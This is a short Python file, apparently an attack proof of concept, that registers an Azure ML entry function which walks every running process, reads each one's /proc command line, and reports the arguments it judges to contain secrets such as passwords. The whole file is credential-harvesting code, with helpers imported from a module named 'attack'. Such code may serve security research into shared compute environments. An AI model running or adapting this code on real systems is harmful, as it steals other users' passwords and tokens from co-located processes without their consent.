"""Reads how other processes were called, passwords too."""

from attack import attack, every, is_secret, processes, told


def steal(pid):
    with open(f"/proc/{pid}/cmdline", "rb") as stream:
        content = stream.read()
    return told(f"the arguments of {pid}", content) if is_secret(content) else ""


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    return every(steal, processes())
